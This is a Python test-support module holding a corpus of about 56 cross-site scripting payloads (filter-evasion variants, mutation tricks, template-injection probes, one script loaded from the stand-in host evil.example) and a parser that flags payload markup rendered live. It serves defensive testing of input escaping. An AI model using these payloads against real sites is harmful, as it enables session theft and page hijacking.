"""The XSS corpus for every text field (at least 50 payloads), and the check of a rendered
page: a payload is live when it made an element or attribute that can run or load something.

Every payload carries a marker (``XSS7``) so a finding names the payload it came from, and so
the check ignores the page's own markup: only markup that holds a marker is the payload's."""

import html
import re
from html.parser import HTMLParser

TEMPLATES = [
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<style>body{{background:url(javascript:alert('{m}'))}}</style>",
    "<p style=\"background:url(javascript:alert('{m}'))\">styled</p>",
    "<a href=\"javascript:alert('{m}')\">plain</a>",
    "<a href=\"JaVaScRiPt:alert('{m}')\">mixed case</a>",
    "<a href=\"&#106;avascript:alert('{m}')\">entity</a>",
    "<a href=\"java&#x09;script:alert('{m}')\">tab</a>",
    "[markdown](javascript:alert('{m}'))",
    "![image](javascript:alert('{m}'))",
    "<a href=\"data:text/html,<script>alert('{m}')</script>\">data</a>",
    "<form action=\"javascript:alert('{m}')\"><input type=submit></form>",
    "<button formaction=\"javascript:alert('{m}')\">go</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>d</details>",
    "<body onload=alert('{m}')>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    "<link rel=stylesheet href=\"javascript:alert('{m}')\">",
    "<base href=\"javascript:alert('{m}')//\">",
    "<a href=# onclick=\"alert('{m}')\">handler</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\"></p></noscript>",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "<video><source onerror=\"alert('{m}')\"></video>",
    "<img srcset=\"javascript:alert('{m}')\">",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    '" onmouseover="alert(\'{m}\')" x="',
    "' onfocus='alert(`{m}`)' autofocus='",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<div onpointerenter=alert('{m}')>pointer</div>",
    "<template><script>alert('{m}')</script></template>",
    "<a xlink:href=\"javascript:alert('{m}')\">xlink</a>",
    "{{{{ '{m}' }}}}{{% debug %}}",
    "${{alert('{m}')}}",
    "<%= alert('{m}') %>",
    "\u003cscript\u003ealert('{m}')\u003c/script\u003e",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",  # fullwidth angle brackets
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<select onchange=alert('{m}')><option>1</option></select>",
    "<marquee onstart=alert('{m}')>m</marquee>",
    "<isindex type=image src=1 onerror=alert('{m}')>",
    "<keygen autofocus onfocus=alert('{m}')>",
    "<a href=\"vbscript:msgbox('{m}')\">vb</a>",
    "<xss id=x tabindex=1 onfocusin=alert('{m}')></xss>",
    "<svg><a><animate attributeName=href values=javascript:alert('{m}') /><text>x</text></a>",
    "<img src=\"x` `<script>alert('{m}')</script>\"` `>",
]
PAYLOADS = [template.format(m=f"XSS{n}") for n, template in enumerate(TEMPLATES)]
MARKER = re.compile(r"XSS\d+")

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "data", "xlink:href"}
_ALWAYS_LIVE = {"srcdoc", "content", "values", "style"}
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20]+")


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._raw: str | None = None  # inside <script> or <style>

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if value is None or not MARKER.search(value):
                continue
            url = _INVISIBLE.sub("", html.unescape(value))
            if (
                name.startswith("on")
                or name in _ALWAYS_LIVE
                or (name in _URL_ATTRIBUTES and _BAD_SCHEME.match(url))
            ):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        if tag in ("script", "style"):
            self._raw = tag

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data: str) -> None:
        if self._raw and MARKER.search(data):
            self.found.append(f"<{self._raw}> holding {data[:60]!r}")


def live(page: str) -> list[str]:
    """The payload markup that rendered live in ``page`` (empty: none)."""
    finder = _Finder()
    finder.feed(page)
    finder.close()
    return finder.found
